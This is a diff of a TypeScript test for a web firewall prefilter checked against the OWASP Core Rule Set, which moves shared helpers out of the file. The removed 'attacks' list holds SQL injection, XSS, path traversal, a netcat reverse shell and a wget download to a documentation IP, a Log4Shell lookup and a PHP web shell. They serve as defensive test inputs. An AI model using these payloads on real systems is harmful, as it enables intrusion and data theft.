@@ -2,18 +2,15 @@
 // for them, and, against the OWASP Core Rule Set, the proof that matters: with the prefilter on,
 // every request gets the verdict, score and matched rules it gets with every rule run in full.
 import assert from 'node:assert/strict';
-import fs from 'node:fs';
 import { test } from 'node:test';
-import { benignBytes, benignRequests } from '../../../bench/waf/benign-corpus.ts';
 import { inspect } from '../../../src/security/proxy/waf/engine.ts';
 import { LiteralScanner } from '../../../src/security/proxy/waf/literal-scanner.ts';
 import { pcreToJs } from '../../../src/security/proxy/waf/pcre.ts';
 import { requiredLiterals } from '../../../src/security/proxy/waf/required-literals.ts';
 import type { WafRequest } from '../../../src/security/proxy/waf/request-fields.ts';
 import { loadRuleSet, type Rule } from '../../../src/security/proxy/waf/rule-set.ts';
+import { attacks, benignWafRequests, carrying, crsDir, haveCrs } from './waf-requests.ts';
 
-const crsDir = '/usr/share/modsecurity-crs/rules';
-const haveCrs = fs.existsSync(`${crsDir}/REQUEST-942-APPLICATION-ATTACK-SQLI.conf`);
 if (!haveCrs) console.warn(`SKIPPED: the prefilter's Core Rule Set tests need ${crsDir} (apt-get install modsecurity-crs)`);
 
 test('a regex gives the literals every match contains, folded to lower case', () => {
@@ -71,30 +68,6 @@ test('the scanner finds overlapping literals, in either case, and reports each o
   assert.deepEqual(owners('x'), [4]);
 });
 
-/** A request with `value` in the query, a cookie, a header and a JSON body. */
-function carrying(value: string): WafRequest[] {
-  const encoded = encodeURIComponent(value);
-  const base = { method: 'GET', protocol: 'HTTP/1.1', client: '198.51.100.7', id: 'x', body: Buffer.alloc(0) };
-  const headers = ['host', 'shop.example', 'user-agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0', 'accept', '*/*'];
-  return [
-    { ...base, url: `/search?q=${encoded}`, headers },
-    { ...base, url: `/search?q=${encodeURIComponent(encoded)}`, headers },
-    { ...base, url: '/', headers: [...headers, 'cookie', `session=${encoded}`] },
-    { ...base, url: '/', headers: [...headers, 'referer', value.replace(/[\r\n]/g, ' ')] },
-    { ...base, method: 'POST', url: '/api', headers: [...headers, 'content-type', 'application/json'], body: Buffer.from(JSON.stringify({ note: value })) },
-  ];
-}
-
-const attacks = [
-  "1' OR '1'='1", '1 UNION SELECT username,password FROM users--', "admin'--", '1/**/UnIoN/**/SeLeCt/**/1', "1' AND sleep(5)#", '1;DROP TABLE users',
-  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(1)>', 'javascript:alert(document.cookie)', '&lt;img src=x onerror=alert(1)&gt;',
-  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '%u002e%u002e%u2215etc%u2215passwd', '/proc/self/environ',
-  ';cat /etc/passwd', '| nc -e /bin/sh 203.0.113.9 4444', '$(wget http://203.0.113.9/x.sh)', '`id`', 'powershell -enc SQBFAFgA',
-  '<?php system($_GET["c"]); ?>', 'php://filter/convert.base64-encode/resource=index.php', 'eval(String.fromCharCode(97,108))', 'XyQkTkRfRlVOQyQkXwo=',
-  '${jndi:ldap://203.0.113.9/a}', 'java.lang.Runtime.getRuntime().exec("id")', 'http://203.0.113.9/shell.txt?', 'en\r\nSet-Cookie: session=evil',
-  '{{7*7}}', 'this.constructor.constructor("return process")()', '\x00\x01\x02', 'SELECT * FROM information_schema.tables',
-];
-
 test('with the Core Rule Set, the prefilter changes no verdict', { skip: !haveCrs && `no Core Rule Set in ${crsDir}` }, () => {
   const prefiltered = loadRuleSet(crsDir);
   const full = loadRuleSet(crsDir);
@@ -108,15 +81,7 @@ test('with the Core Rule Set, the prefilter changes no verdict', { skip: !haveCr
     }
   }
   assert.ok(skippable > 150, `most rules are prefiltered (${String(skippable)})`);
-  const benign = benignRequests().map((r): WafRequest => {
-    const raw = benignBytes(r, 'shop.example');
-    const end = raw.indexOf('\r\n\r\n');
-    const [line = '', ...lines] = raw.subarray(0, end).toString('latin1').split('\r\n');
-    const [method = '', url = '', protocol = ''] = line.split(' ');
-    const headers = lines.flatMap((l) => [l.slice(0, l.indexOf(':')).toLowerCase(), l.slice(l.indexOf(':') + 1).trim()]);
-    return { method, url, protocol, headers, client: '198.51.100.7', body: raw.subarray(end + 4), id: 'x' };
-  });
-  const requests = [...benign, ...attacks.flatMap(carrying)];
+  const requests = [...benignWafRequests(), ...attacks.flatMap(carrying)];
   let denied = 0;
   for (const paranoia of [1, 2]) {
     const settings = { paranoia, threshold: 5, budgetMs: Infinity };
